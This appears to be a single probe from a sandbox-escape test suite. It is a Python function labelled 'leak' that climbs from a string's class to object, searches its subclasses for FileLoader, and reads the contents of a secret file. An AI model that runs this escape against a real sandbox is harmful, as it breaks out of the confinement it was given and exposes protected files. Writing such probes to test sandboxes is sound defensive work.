# effect: leak
def attempt(probe):
    root = "".__class__.__mro__[-1]
    for cls in root.__subclasses__():
        if cls.__name__ == "FileLoader":
            return cls("x", probe["secret_file"]).get_data(probe["secret_file"])
